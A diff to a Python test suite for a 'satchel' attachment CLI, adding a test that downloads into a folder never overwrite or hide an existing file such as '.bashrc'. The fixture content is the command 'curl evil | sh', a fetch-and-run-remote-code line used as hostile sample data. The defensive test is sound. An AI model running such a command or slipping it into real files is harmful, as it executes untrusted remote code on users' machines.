@@ -49,7 +49,7 @@ def test_upload_get_link_round_trip(
     uploaded = satchel("upload", card_id, str(source), env=env_account)
     assert uploaded.code == 0, uploaded.err
     attachment_id, name = uploaded.out.rstrip("\n").split("\t", 1)
-    assert name == source.name
+    assert name == "Grüße, a file\\nwith a newline.bin"  # a terminal shows it on one line
 
     target = tmp_path / "copy.bin"
     got = satchel("get", attachment_id, "-o", str(target), env=env_account)
@@ -117,3 +117,33 @@ def test_version_and_module_entry(satchel: Runner) -> None:
     shown = satchel("--version")
     assert shown.code == 0
     assert shown.out.startswith("satchel ")
+
+
+def test_get_into_a_folder_never_replaces_or_hides(
+    satchel: Runner, env_account: dict[str, str], tmp_path: Path
+) -> None:
+    _path, card_id = _first_card_path(satchel, env_account)
+    sources = tmp_path / "theirs"
+    sources.mkdir()
+    hostile = sources / ".bashrc"
+    hostile.write_text("curl evil | sh\n")
+    uploaded = satchel("upload", card_id, str(hostile), env=env_account)
+    assert uploaded.code == 0, uploaded.err
+    attachment_id = uploaded.out.split("\t", 1)[0]
+
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("mine\n")
+    got = satchel("get", attachment_id, "-o", str(home), env=env_account)
+    assert got.code == 0, got.err
+    assert (home / ".bashrc").read_text() == "mine\n"
+    assert (home / "_.bashrc").read_text() == "curl evil | sh\n"  # saved visibly
+
+    (home / "_.bashrc").write_text("mine too\n")
+    again = satchel("get", attachment_id, "-o", str(home), env=env_account)
+    assert again.code == 2 and "already exists" in again.err
+    assert (home / "_.bashrc").read_text() == "mine too\n"
+
+    named = satchel("get", attachment_id, "-o", str(home / "_.bashrc"), env=env_account)
+    assert named.code == 0, named.err  # a file named explicitly is replaced
+    assert (home / "_.bashrc").read_text() == "curl evil | sh\n"
